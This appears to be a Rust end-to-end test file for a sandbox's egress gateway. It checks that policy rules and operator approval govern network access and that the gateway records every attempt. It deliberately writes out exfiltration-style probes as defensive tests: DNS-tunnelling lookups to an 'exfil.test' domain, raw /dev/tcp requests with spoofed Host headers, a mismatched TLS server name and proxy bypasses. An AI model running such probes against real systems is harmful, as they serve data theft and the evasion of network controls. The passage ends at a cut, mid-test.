//! Network as a granted capability, end to end: programs in a real gVisor sandbox (no NIC) reach
//! the network only through the guest agent's proxy endpoints and the host's egress gateway,
//! which asks the policy — and, for a new destination, the operator — before it resolves a name,
//! refuses loopback and the supervisor's own port unless a rule says otherwise, checks TLS server
//! names, and records every attempt. DNS in the guest answers nothing.
//!
//! Every upstream is a server this test starts on 127.0.0.1 (HTTP, HTTPS with a throwaway CA, DNS)
//! and reaches under `.test` names mapped with `airlock serve --egress-map`; nothing here sends a
//! packet to any other address.

use std::time::Duration;

use airlock_domain::{EgressOutcome, EgressProtocol, EgressRecord};
use airlock_records::Record;
use airlock_test_kit::e2e::records::records;
use airlock_test_kit::e2e::serve::{Events, Serve};
use airlock_test_kit::e2e::upstream::{client_hello, DnsServer, HttpUpstream, TestCa, TlsUpstream, GREEN};
use airlock_test_kit::e2e::{airlock_in, guest_sh_in, poll, Env};
use anyhow::{ensure, Context, Result};
use serde_json::{json, Value};

/// The shipped policy, with the test's upstreams allowed, one host denied, and loopback allowed
/// for `.test` names (where the test's servers live).
fn test_policy() -> String {
    let shipped = include_str!("../../policy/default.cedar");
    let special = "when { context.resolved && context.address_class != \"public\" };";
    assert!(
        shipped.contains(special),
        "the shipped policy's special-address rule changed"
    );
    let policy = shipped.replace(
        special,
        "when { context.resolved && context.address_class != \"public\" }\nunless { context.host like \"*.test\" };",
    );
    format!(
        "{policy}\n\n@id(\"test-upstreams\")\npermit (principal, action == Action::\"connect\", resource)\n\
         when {{ [\"web.test\", \"secure.test\", \"api.test\", \"resolved.test\"].contains(context.host) }};\n\n\
         @id(\"test-denied\")\nforbid (principal, action == Action::\"connect\", resource)\n\
         when {{ context.host == \"denied.test\" }};\n"
    )
}

struct Net {
    serve: Serve,
    sb: String,
    events: Events,
    web: HttpUpstream,
    secure: TlsUpstream,
    ca: TestCa,
    dns: DnsServer,
}

async fn started(env: &Env) -> Result<Net> {
    started_on(env, "gvisor").await
}

async fn started_on(env: &Env, backend: &'static str) -> Result<Net> {
    started_with(env, backend, "minimal").await
}

async fn started_with(env: &Env, backend: &'static str, profile: &'static str) -> Result<Net> {
    let web = HttpUpstream::start()?;
    let ca = TestCa::new(&["secure.test"])?;
    let secure = TlsUpstream::start(&ca)?;
    // The gateway's resolver for names the map does not list: answers resolved.test only.
    let dns = DnsServer::start(&[("resolved.test", [127, 0, 0, 1])])?;
    let policy = env.root.join("policy.cedar");
    std::fs::write(&policy, test_policy())?;
    let policy = policy.to_string_lossy().into_owned();
    let dns_addr = dns.addr.to_string();
    let mut args = vec![
        "--backend",
        backend,
        "--profile",
        profile,
        "--approval-timeout",
        "60",
        "--policy",
        &policy,
        "--egress-dns",
        &dns_addr,
    ];
    for name in [
        "web.test",
        "secure.test",
        "asked.test",
        "denied.test",
        "api.test",
        "budget.test",
    ] {
        args.push("--egress-map");
        args.push(Box::leak(format!("{name}=127.0.0.1").into_boxed_str()));
    }
    let serve = Serve::start(env, &args)?;
    let sb = serve.only_sandbox().await?;
    let events = serve.events().await?;
    Ok(Net {
        serve,
        sb,
        events,
        web,
        secure,
        ca,
        dns,
    })
}

/// Starts a shell script in the guest (as the operator's CLI does) off the async runtime; the
/// handle yields its output.
fn spawn_guest(env: &Env, sb: &str, script: String) -> tokio::task::JoinHandle<Result<String>> {
    let (root, sb) = (env.root.clone(), sb.to_string());
    tokio::task::spawn_blocking(move || guest_sh_in(&root, &sb, &script))
}

/// Runs a shell script in the guest and waits for its output.
async fn guest(env: &Env, sb: &str, script: String) -> Result<String> {
    spawn_guest(env, sb, script)
        .await
        .context("the guest command's thread")?
}

/// The operator answers network ask `id` of the sandbox over the API; the answer must be taken.
async fn answer(n: &Net, id: u64, resolution: Value) -> Result<Value> {
    let (status, body) = n
        .serve
        .post(&format!("/sandboxes/{}/egress/{id}", n.sb), resolution)
        .await?;
    ensure!(status == 200, "the answer was refused: {status} {body}");
    Ok(body)
}

/// `script` as a `bash -c` command for `sh -c` (bash has `/dev/tcp`): quoted so that the outer
/// shell expands nothing.
fn bash(script: &str) -> String {
    format!(
        "bash -c \"{}\"",
        script
            .replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('$', "\\$")
            .replace('`', "\\`")
    )
}

/// The sandbox's egress ledger records.
async fn egress_records(serve: &Serve, sb: &str) -> Result<Vec<EgressRecord>> {
    Ok(records(&serve.ledger(Some(sb)).await?)?
        .into_iter()
        .filter_map(|(_, r)| match r {
            Record::Egress(x) => Some(x),
            _ => None,
        })
        .collect())
}

/// Waits until the ledger holds a record matching `pred`.
async fn ledger_has(
    serve: &Serve,
    sb: &str,
    what: &str,
    pred: impl Fn(&EgressRecord) -> bool,
) -> Result<EgressRecord> {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let records = egress_records(serve, sb).await?;
        if let Some(r) = records.iter().find(|r| pred(r)) {
            return Ok(r.clone());
        }
        if tokio::time::Instant::now() > deadline {
            let log = std::fs::read_to_string(serve.log_path()).unwrap_or_default();
            let tail: Vec<&str> = log.lines().rev().take(40).collect();
            anyhow::bail!(
                "the ledger has no {what}; egress records: {records:#?}\nserve.log ends:\n{}",
                tail.into_iter().rev().collect::<Vec<_>>().join("\n")
            );
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// Whether `r` is the decision on a connection to `host`.
fn decided_for(r: &EgressRecord, host: &str) -> bool {
    matches!(r, EgressRecord::Decided { destination, .. } if destination.host == host)
}

/// Whether `r` is the end of a connection to `host`.
fn closed_for(r: &EgressRecord, host: &str) -> bool {
    matches!(r, EgressRecord::Closed { destination, .. } if destination.host == host)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allowed_host_is_reached_over_http_and_both_ledger_entries_are_written() -> Result<()> {
    let env = Env::new("egress-http");
    let n = started(&env).await?;
    let out = guest(
        &env,
        &n.sb,
        format!("curl -sS -m 30 http://web.test:{}/hello", n.web.port),
    )
    .await?;
    ensure!(
        out == "hello from web.test:{}\n".replace("{}", &n.web.port.to_string()),
        "curl printed {out:?}"
    );
    ensure!(
        n.web.seen.requests() == vec!["GET /hello HTTP/1.1".to_string()],
        "the upstream saw {:?} (the gateway must send origin-form requests)",
        n.web.seen.requests()
    );
    let decided = ledger_has(&n.serve, &n.sb, "decision for web.test", |r| {
        decided_for(r, "web.test")
    })
    .await?;
    ensure!(
        matches!(&decided, EgressRecord::Decided { outcome: EgressOutcome::Allowed, rules, .. }
            if rules == &["test-upstreams"]),
        "{decided:?}"
    );
    let closed = ledger_has(&n.serve, &n.sb, "close for web.test", |r| {
        closed_for(r, "web.test")
    })
    .await?;
    ensure!(
        matches!(&closed, EgressRecord::Closed { bytes_down, .. } if *bytes_down > 20),
        "{closed:?}"
    );
    ensure!(
        matches!(&closed, EgressRecord::Closed { bytes_up, .. } if *bytes_up > 20),
        "{closed:?}"
    );
    ensure!(
        matches!(&closed, EgressRecord::Closed { address: Some(a), error: None, .. } if a == "127.0.0.1"),
        "{closed:?}"
    );
    env.ledger_verifies()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forwarded_connection_carries_one_request_to_the_allowed_host_only() -> Result<()> {
    let env = Env::new("egress-one-request");
    let n = started(&env).await?;
    // The program names another host in its Host header: the upstream is told the allowed one.
    let out = guest(
        &env,
        &n.sb,
        format!(
            "curl -sS -m 30 -H 'Host: pastebin.com' http://web.test:{}/first",
            n.web.port
        ),
    )
    .await?;
    ensure!(
        out == format!("hello from web.test:{}\n", n.web.port),
        "the upstream saw another Host: {out:?}"
    );
    // A second request pipelined on the same connection (for another host) never goes out.
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/3128; \
         printf 'GET http://web.test:{p}/second HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\nGET http://web.test:{p}/third HTTP/1.1\\r\\nHost: pastebin.com\\r\\n\\r\\n' >&3; \
         timeout 20 cat <&3",
        p = n.web.port
    );
    let out = guest(&env, &n.sb, bash(&script)).await?;
    ensure!(
        out.contains("hello from web.test"),
        "the first request got no answer: {out}"
    );
    let seen = n.web.seen.requests();
    ensure!(
        seen == vec![
            "GET /first HTTP/1.1".to_string(),
            "GET /second HTTP/1.1".to_string()
        ],
        "the upstream saw {seen:?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allowed_host_is_reached_over_https_through_a_connect_tunnel() -> Result<()> {
    let env = Env::new("egress-https");
    let n = started(&env).await?;
    let script = format!(
        "printf '%s' '{}' > /tmp/ca.pem && curl -sS -m 30 --cacert /tmp/ca.pem https://secure.test:{}/",
        n.ca.ca_pem, n.secure.port
    );
    let out = guest(&env, &n.sb, script).await?;
    ensure!(out.starts_with("hello from secure.test"), "curl printed {out:?}");
    let names = n
        .secure
        .server_names
        .lock()
        .map(|v| v.clone())
        .unwrap_or_default();
    ensure!(
        names == vec![Some("secure.test".to_string())],
        "the server saw server names {names:?}"
    );
    let decided = ledger_has(&n.serve, &n.sb, "decision", |r| decided_for(r, "secure.test")).await?;
    ensure!(
        matches!(
            decided,
            EgressRecord::Decided {
                protocol: EgressProtocol::Connect,
                ..
            }
        ),
        "{decided:?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn socks5_with_remote_names_reaches_an_allowed_host() -> Result<()> {
    let env = Env::new("egress-socks");
    let n = started(&env).await?;
    let out = guest(
        &env,
        &n.sb,
        format!(
            "curl -sS -m 30 --proxy socks5h://127.0.0.1:1080 http://web.test:{}/",
            n.web.port
        ),
    )
    .await?;
    ensure!(out.starts_with("hello from web.test"), "curl printed {out:?}");
    let decided = ledger_has(&n.serve, &n.sb, "decision", |r| decided_for(r, "web.test")).await?;
    ensure!(
        matches!(
            decided,
            EgressRecord::Decided {
                protocol: EgressProtocol::Socks5,
                ..
            }
        ),
        "{decided:?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denied_host_gets_a_proxy_refusal_naming_the_rule() -> Result<()> {
    let env = Env::new("egress-denied");
    let n = started(&env).await?;
    let out = guest(
        &env,
        &n.sb,
        format!("curl -sS -m 30 -i http://denied.test:{}/ || true", n.web.port),
    )
    .await?;
    ensure!(out.starts_with("HTTP/1.1 403"), "curl printed {out:?}");
    ensure!(
        out.contains("test-denied"),
        "the refusal does not name the rule: {out}"
    );
    ensure!(n.web.seen.requests().is_empty(), "the upstream was reached");
    let decided = ledger_has(&n.serve, &n.sb, "denial", |r| decided_for(r, "denied.test")).await?;
    ensure!(
        matches!(
            decided,
            EgressRecord::Decided {
                outcome: EgressOutcome::Denied,
                ..
            }
        ),
        "{decided:?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_asked_host_waits_for_the_operator_and_completes_when_allowed() -> Result<()> {
    asked_host_completes_when_allowed("gvisor").await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_asked_host_waits_for_the_operator_in_a_microvm_too() -> Result<()> {
    asked_host_completes_when_allowed("microvm").await
}

async fn asked_host_completes_when_allowed(backend: &'static str) -> Result<()> {
    let env = Env::new(&format!("egress-ask-{backend}"));
    let mut n = started_on(&env, backend).await?;
    let script = format!("curl -sS -m 90 http://asked.test:{}/asked", n.web.port);
    let call = spawn_guest(&env, &n.sb, script);
    let asked = n.events.next_of("egress_asked", Duration::from_secs(60)).await?;
    let ask = &asked["ask"];
    ensure!(
        ask["destinations"] == json!([{"host": "asked.test", "port": n.web.port}]),
        "{ask}"
    );
    ensure!(
        ask["rules"] == json!(["new-destination"]) && ask["protocol"] == "http",
        "{ask}"
    );
    ensure!(
        n.web.seen.requests().is_empty(),
        "the connection went out before the operator decided"
    );
    let id = ask["id"].as_u64().context("ask id")?;
    let body = answer(&n, id, json!({"decision": "allow", "scope": {"kind": "once"}})).await?;
    ensure!(body["state"]["state"] == "allowed", "{body}");
    let out = call.await??;
    ensure!(out.starts_with("hello from asked.test"), "curl printed {out:?}");
    let decided = ledger_has(&n.serve, &n.sb, "approval", |r| decided_for(r, "asked.test")).await?;
    ensure!(
        matches!(&decided, EgressRecord::Decided { outcome: EgressOutcome::Approved, approver: Some(a), .. }
            if *a == n.serve.operator),
        "{decided:?}"
    );
    let closed = ledger_has(&n.serve, &n.sb, "close", |r| closed_for(r, "asked.test")).await?;
    ensure!(
        matches!(&closed, EgressRecord::Closed { bytes_down, .. } if *bytes_down > 20),
        "{closed:?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_lookups_in_the_guest_reach_no_resolver_and_are_recorded_aggregated() -> Result<()> {
    dns_carries_nothing_out("gvisor").await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_lookups_in_a_microvm_reach_no_resolver_either() -> Result<()> {
    dns_carries_nothing_out("microvm").await
}

async fn dns_carries_nothing_out(backend: &'static str) -> Result<()> {
    let env = Env::new(&format!("egress-dns-{backend}"));
    let n = started_on(&env, backend).await?;
    // Positive control: the gateway's resolver is the test's DNS server (a name the map does not
    // list, allowed by the policy, is resolved there, on the host, after the policy allowed it).
    let out = guest(
        &env,
        &n.sb,
        format!("curl -sS -m 30 http://resolved.test:{}/", n.web.port),
    )
    .await?;
    ensure!(
        out.starts_with("hello from resolved.test"),
        "curl printed {out:?}"
    );
    let control = n.dns.queries();
    ensure!(
        control >= 1,
        "the gateway did not resolve through the test's DNS server"
    );
    // 1,000 data-bearing lookups through libc, and straight at the resolver in resolv.conf and at
    // a documentation-range address (no route exists: the sandbox has no interface but loopback).
    let script = "i=0; while [ $i -lt 1000 ]; do getent hosts $(printf '%04x' $i)c0ffee.exfil.test >/dev/null; i=$((i+1)); done; \
                  for s in $(awk '/^nameserver/ {print $2}' /etc/resolv.conf) 192.0.2.53; do \
                  busybox nslookup -timeout=1 aa55.exfil.test $s >/dev/null 2>&1; done; cat /etc/resolv.conf";
    // A thousand lookups take a while on a busy two-core host (or under TCG): a deadline of
    // minutes, not the exec default of 30 s.
    let (root, sb) = (env.root.clone(), n.sb.clone());
    let out = tokio::task::spawn_blocking(move || {
        airlock_in(
            &root,
            &[
                "sandbox",
                "exec",
                "--timeout",
                "300",
                &sb,
                "--",
                "sh",
                "-c",
                script,
            ],
        )
    })
    .await
    .context("the lookups' thread")?;
    ensure!(
        out.status.success(),
        "the lookups failed in the guest: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let resolv = String::from_utf8_lossy(&out.stdout).into_owned();
    ensure!(
        resolv.contains("nameserver 127.0.0.1"),
        "resolv.conf is {resolv:?}"
    );
    let refused = poll("the aggregated DNS refusals", Duration::from_secs(30), || {
        let records = futures::executor::block_on(egress_records(&n.serve, &n.sb))?;
        let total: u64 = records
            .iter()
            .filter_map(|r| match r {
                EgressRecord::DnsRefused { groups, .. } => Some(groups),
                _ => None,
            })
            .flatten()
            .filter(|g| g.group == "exfil.test")
            .map(|g| g.count)
            .sum();
        Ok((total >= 1000).then_some(records))
    })?;
    let rows = refused
        .iter()
        .filter(|r| matches!(r, EgressRecord::DnsRefused { .. }))
        .count();
    ensure!(
        rows < 100,
        "{rows} DNS rows for 1,000 lookups: they must be aggregated"
    );
    ensure!(
        n.dns.queries() == control,
        "the test's DNS server got {} queries from the guest's lookups",
        n.dns.queries() - control
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_program_that_ignores_the_proxy_has_nowhere_to_connect() -> Result<()> {
    let env = Env::new("egress-bypass");
    let n = started(&env).await?;
    let out = guest(
        &env,
        &n.sb,
        format!(
            "curl -sS -m 10 --noproxy '*' http://127.0.0.1:{}/ 2>&1; echo \" exit=$?\"; \
             curl -sS -m 10 --noproxy '*' http://192.0.2.1/ 2>&1; echo \" exit=$?\"",
            n.web.port
        ),
    )
    .await?;
    ensure!(
        !out.contains("hello from"),
        "a direct connection reached an upstream: {out}"
    );
    ensure!(
        out.matches("exit=0").count() == 0,
        "a direct connection succeeded: {out}"
    );
    ensure!(n.web.seen.requests().is_empty(), "the upstream was reached");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tls_server_name_other_than_the_allowed_host_is_refused() -> Result<()> {
    let env = Env::new("egress-sni");
    let n = started(&env).await?;
    let hello: String = client_hello("evil.test")?
        .iter()
        .map(|b| format!("\\{b:03o}"))
        .collect();
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT secure.test:{} HTTP/1.1\\r\\n\\r\\n' >&3; \
         head -c 39 <&3; printf '{hello}' >&3; timeout 10 cat <&3 | wc -c",
        n.secure.port
    );
    let out = guest(&env, &n.sb, bash(&script)).await?;
    ensure!(
        out.starts_with("HTTP/1.1 200"),
        "the tunnel did not open: {out:?}"
    );
    ensure!(
        out.lines().last().map(str::trim) == Some("0"),
        "the server answered the ClientHello: {out:?}"
    );
    let closed = ledger_has(&n.serve, &n.sb, "close", |r| closed_for(r, "secure.test")).await?;
    ensure!(
        matches!(&closed, EgressRecord::Closed { error: Some(error), .. }
            if error.contains("evil.test") && error.contains("secure.test")),
        "{closed:?}"
    );
    ensure!(
        n.secure
            .server_names
            .lock()
            .map(|v| v.is_empty())
            .unwrap_or(false),
        "the upstream saw a handshake"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_supervisor_port_is_never_reachable_from_a_sandbox() -> Result<()> {
    let env = Env::new("egress-own-port");
    let n = started(&env).await?;
    let port = n.serve.base.rsplit(':').next().context("serve port")?;
    let out = guest(
        &env,
        &n.sb,
        format!("curl -sS -m 30 -i http://api.test:{port}/api/me || true"),
    )
    .await?;
    ensure!(out.starts_with("HTTP/1.1 502"), "curl printed {out:?}");
    ensure!(
        out.contains("never reachable from a sandbox"),
        "the refusal does not say why: {out}"
    );
    ensure!(
        !out.contains("127.0.0.1"),
        "the refusal tells the guest the host's address: {out}"
    );
    let closed = ledger_has(&n.serve, &n.sb, "close", |r| closed_for(r, "api.test")).await?;
    ensure!(
        matches!(&closed, EgressRecord::Closed { error: Some(error), .. }
            if error.contains("supervisor itself listens")),
        "{closed:?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_proxy_requests_get_clear_errors_and_the_sandbox_keeps_working() -> Result<()> {
    let env = Env::new("egress-hostile");
    let n = started(&env).await?;
    let long = "a".repeat(300);
    // A request line that is not one, a name over the DNS limits, a SOCKS request of version 4:
    // each gets its protocol's error (HTTP 400 with the reason; SOCKS "general failure").
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'NONSENSE\\r\\n\\r\\n' >&3; timeout 10 head -c 200 <&3; echo; \
         exec 4<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT {long}.test:443 HTTP/1.1\\r\\n\\r\\n' >&4; timeout 10 head -c 2000 <&4; echo; \
         exec 5<>/dev/tcp/127.0.0.1/1080; printf '\\005\\001\\000\\004\\001\\000\\001\\001\\002\\003\\004\\000\\120' >&5; \
         echo socks: $(timeout 10 od -An -tx1 <&5); \
         i=0; while [ $i -lt 2000 ]; do exec 6<>/dev/tcp/127.0.0.1/3128; exec 6>&-; i=$((i+1)); done; echo opened"
    );
    let out = guest(&env, &n.sb, bash(&script)).await?;
    ensure!(out.trim_end().ends_with("opened"), "{out}");
    ensure!(
        out.matches("HTTP/1.1 400").count() == 2,
        "the malformed HTTP requests did not both get a 400: {out}"
    );
    ensure!(
        out.contains("is not `METHOD TARGET HTTP/1.x`"),
        "the 400 does not say why: {out}"
    );
    ensure!(
        out.contains("over the 253-byte limit") || out.contains("63-byte limit"),
        "{out}"
    );
    ensure!(
        out.contains("socks: 05 00 05 01"),
        "the SOCKS client got no general failure: {out}"
    );
    // The channel and the gateway still work.
    let ok = guest(
        &env,
        &n.sb,
        format!("curl -sS -m 30 http://web.test:{}/", n.web.port),
    )
    .await?;
    ensure!(ok.starts_with("hello from web.test"), "curl printed {ok:?}");
    let (status, _) = n.serve.get(&format!("/sandboxes/{}/screenshot", n.sb)).await?;
    ensure!(
        status == 200,
        "the screenshot failed after the hostile connections: {status}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_asking_ahead_puts_one_card_in_front_of_the_operator() -> Result<()> {
    let env = Env::new("egress-ahead");
    let mut n = started(&env).await?;
    let agent = n.serve.agent().await?;
    let sb = n.sb.clone();
    let call = tokio::spawn(async move {
        agent
            .call(
                "request_network",
                json!({"hosts": ["ahead.test:8080", "docs.ahead.test"], "reason": "read the docs", "sandbox": sb}),
            )
            .await
    });
    let asked = n.events.next_of("egress_asked", Duration::from_secs(60)).await?;
    let ask = &asked["ask"];
    ensure!(
        ask["destinations"]
            == json!([{"host": "ahead.test", "port": 8080}, {"host": "docs.ahead.test", "port": 443}]),
        "{ask}"
    );
    ensure!(
        ask["agent_reason"] == "read the docs" && ask["protocol"].is_null(),
        "{ask}"
    );
    let (_, pending) = n.serve.get("/egress").await?;
    ensure!(
        pending.as_array().map(Vec::len) == Some(1),
        "one card, not {pending}"
    );
    let id = ask["id"].as_u64().context("ask id")?;
    answer(&n, id, json!({"decision": "allow", "scope": {"kind": "sandbox"}})).await?;
    let outcome = tokio::time::timeout(Duration::from_secs(30), call).await???;
    ensure!(!outcome.is_error, "{:?}", outcome.texts);
    let (_, net) = n.serve.get(&format!("/sandboxes/{}/network", n.sb)).await?;
    ensure!(net["grants"].as_array().map(Vec::len) == Some(2), "{net}");
    // A destination a rule forbids is refused before any card: no grant can cover it.
    let agent = n.serve.agent().await?;
    let refused = agent
        .call(
            "request_network",
            json!({"hosts": ["pastebin.com"], "reason": "share a result", "sandbox": n.sb}),
        )
        .await?;
    ensure!(refused.is_error, "{:?}", refused.texts);
    ensure!(
        refused.texts.join(" ").contains("exfiltration-helpers"),
        "the refusal does not name the rule: {:?}",
        refused.texts
    );
    let (_, pending) = n.serve.get("/egress").await?;
    ensure!(
        pending.as_array().map(Vec::len) == Some(0),
        "a card was shown: {pending}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_microvm_reaches_allowed_hosts_only_through_the_gateway() -> Result<()> {
    let env = Env::new("egress-microvm");
    let n = started_on(&env, "microvm").await?;
    let script = format!(
        "printf '%s' '{}' > /tmp/ca.pem; curl -sS -m 60 http://web.test:{}/vm; \
         curl -sS -m 60 --cacert /tmp/ca.pem https://secure.test:{}/vm; \
         curl -sS -m 60 -i http://denied.test:{}/ | head -1; \
         getent hosts c0ffee.exfil.test; echo \"lookup=$?\"; \
         curl -sS -m 10 --noproxy '*' http://192.0.2.1/ 2>&1 >/dev/null; echo \"direct=$?\"",
        n.ca.ca_pem, n.web.port, n.secure.port, n.web.port
    );
    let out = guest(&env, &n.sb, script).await?;
    ensure!(out.contains("hello from web.test"), "plain HTTP failed: {out}");
    ensure!(out.contains("hello from secure.test"), "HTTPS failed: {out}");
    ensure!(
        out.contains("HTTP/1.1 403"),
        "the denied host was not refused: {out}"
    );
    ensure!(out.contains("lookup=2"), "a guest lookup resolved: {out}");
    ensure!(!out.contains("direct=0"), "a direct connection succeeded: {out}");
    let dns_before = n.dns.queries();
    ensure!(
        dns_before == 0,
        "the test's DNS server was asked {dns_before} times"
    );
    ledger_has(&n.serve, &n.sb, "close for web.test", |r| {
        closed_for(r, "web.test")
    })
    .await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_over_its_budget_is_paused_and_asked_about_again() -> Result<()> {
    let env = Env::new("egress-budget");
    let mut n = started(&env).await?;
    // 1 MiB: four times the stream's credit window, so credit must flow back during the upload.
    let script = format!(
        "head -c 1048576 /dev/zero > /tmp/up && curl -sS -m 120 --data-binary @/tmp/up http://budget.test:{}/upload",
        n.web.port
    );
    let call = spawn_guest(&env, &n.sb, script);
    let first = n.events.next_of("egress_asked", Duration::from_secs(60)).await?;
    let id = first["ask"]["id"].as_u64().context("ask id")?;
    answer(
        &n,
        id,
        json!({"decision": "allow", "scope": {"kind": "once"}, "upload_budget": 65536}),
    )
    .await?;
    // The connection goes on until 64 KiB are sent, then waits for a second ask.
    let second = loop {
        let e = n.events.next_of("egress_asked", Duration::from_secs(60)).await?;
        if !e["ask"]["over_budget"].is_null() {
            break e["ask"].clone();
        }
    };
    ensure!(second["over_budget"]["budget"] == 65536, "{second}");
    let sent = second["over_budget"]["sent"].as_u64().unwrap_or(u64::MAX);
    ensure!(sent <= 65536, "it sent {sent} bytes before it was paused");
    ensure!(
        n.web.seen.requests().is_empty(),
        "the upstream saw the whole upload before the second ask: {:?}",
        n.web.seen.requests()
    );
    let id = second["id"].as_u64().context("ask id")?;
    answer(&n, id, json!({"decision": "allow", "scope": {"kind": "once"}})).await?;
    let out = tokio::time::timeout(Duration::from_secs(120), call).await???;
    ensure!(out.starts_with("hello from budget.test"), "curl printed {out:?}");
    let closed = ledger_has(&n.serve, &n.sb, "close", |r| closed_for(r, "budget.test")).await?;
    ensure!(
        matches!(&closed, EgressRecord::Closed { bytes_up, .. } if *bytes_up > 1_048_576),
        "{closed:?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn killing_the_gateway_mid_download_ends_the_guests_flows_and_nothing_else() -> Result<()> {
    let env = Env::new("egress-kill");
    let mut n = started(&env).await?;
    let script = format!(
        "curl -sS -m 120 --limit-rate 200k -o /dev/null http://web.test:{}/bytes/100000000",
        n.web.port
    );
    let call = spawn_guest(&env, &n.sb, script);
    poll("the download to start", Duration::from_secs(60), || {
        Ok((!n.web.seen.requests().is_empty()).then_some(()))
    })?;
    n.serve.kill9();
    let ended = tokio::time::timeout(Duration::from_secs(30), call)
        .await
        .context("the guest's download went on after the gateway died")??;
    ensure!(ended.is_err(), "the download completed: {ended:?}");
    let alive = guest_sh_in(&env.root, &n.sb, "echo alive")?;
    ensure!(
        alive == "alive\n",
        "the sandbox does not answer after the gateway died: {alive:?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operator_allows_a_network_ask_in_the_console() -> Result<()> {
    use airlock_browser::{Browser, Target};
    let env = Env::new("egress-console");
    let n = started(&env).await?;
    let art = airlock_test_kit::e2e::bin_dir()
        .parent()
        .context("the target directory")?
        .join("test-artifacts/egress");
    std::fs::create_dir_all(&art)?;
    let mut b = Browser::launch(&art.join("chromium.log"))?;
    b.open(
        "console",
        &format!("{}/#token={}", n.serve.base, n.serve.operator_token),
    )?;
    b.click("console", &Target::role("link", "Inbox").inexact())?;
    let script = format!("curl -sS -m 90 http://asked.test:{}/from-console", n.web.port);
    let call = spawn_guest(&env, &n.sb, script);
    let card = Target::role("region", "Network ask");
    b.wait_visible("console", &card, Duration::from_secs(60))?;
    let text = b.text("console", &card)?;
    ensure!(
        text.contains(&format!("asked.test:{}", n.web.port)),
        "the card shows {text:?}"
    );
    ensure!(
        text.contains("new-destination"),
        "the card does not name the rule: {text:?}"
    );
    b.screenshot("console", &art.join("network-ask.png"))?;
    b.click("console", &Target::role("button", "Allow once").within(&card))?;
    let out = tokio::time::timeout(Duration::from_secs(90), call).await???;
    ensure!(out.starts_with("hello from asked.test"), "curl printed {out:?}");
    b.wait_hidden("console", &card, Duration::from_secs(30))?;
    let decided = ledger_has(&n.serve, &n.sb, "approval", |r| decided_for(r, "asked.test")).await?;
    ensure!(
        matches!(&decided, EgressRecord::Decided { outcome: EgressOutcome::Approved, approver: Some(a), .. }
            if *a == n.serve.operator),
        "{decided:?}"
    );
    Ok(())
}

/// Pixels of the guest's screen that are exactly `rgb`.
fn screen_pixels(env: &Env, sb: &str, rgb: [u8; 3]) -> Result<usize> {
    let shot = env.store.connect(sb)?.screenshot()?;
    Ok(shot.rgba.chunks_exact(4).filter(|p| p[..3] == rgb).count())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_desktop_browser_opens_an_allowed_page_and_shows_the_refusal_page_for_another() -> Result<()> {
    let env = Env::new("egress-firefox");
    let n = started_with(&env, "gvisor", "desktop").await?;
    let open = |url: String| {
        guest_sh_in(
            &env.root,
            &n.sb,
            // The guest agent kills what an exec leaves in its process group once the shell exits,
            // and `setsid -f` forks before the child leaves the group: under load the child was
            // killed in between (Firefox never started, its log empty). The shell waits until the
            // browser runs — in its own session by then — before it exits.
            &format!(
                "DISPLAY=:0 setsid -f firefox-esr --new-instance '{url}' > /tmp/ff.log 2>&1; \
                 for i in $(seq 400); do pgrep -x firefox-esr >/dev/null && exit 0; sleep 0.05; done; \
                 echo 'firefox-esr did not start' >&2; exit 1"
            ),
        )
    };
    open(format!("http://web.test:{}/green", n.web.port))?;
    let green = poll("the allowed page on the screen", Duration::from_secs(120), || {
        let g = screen_pixels(&env, &n.sb, GREEN)?;
        Ok((g > 200_000).then_some(g))
    });
    let green = match green {
        Ok(g) => g,
        Err(e) => {
            let log =
                guest_sh_in(&env.root, &n.sb, "tail -20 /tmp/ff.log; ps -eo pid,comm").unwrap_or_default();
            let art = airlock_test_kit::e2e::bin_dir().join("../test-artifacts/egress");
            let _ = std::fs::create_dir_all(&art);
            let shot = env.store.connect(&n.sb).ok().and_then(|c| c.screenshot().ok());
            if let Some(png) = shot.and_then(|s| s.png().ok()) {
                let _ = std::fs::write(art.join("firefox-failure.png"), png);
            }
            return Err(e.context(format!("Firefox's log and the processes:\n{log}")));
        }
    };
    ensure!(
        n.web.seen.requests().iter().any(|r| r == "GET /green HTTP/1.1"),
        "the upstream saw {:?}",
        n.web.seen.requests()
    );
    guest_sh_in(
        &env.root,
        &n.sb,
        "pkill -x firefox-esr; while pgrep -x firefox-esr >/dev/null; do sleep 0.2; done",
    )?;
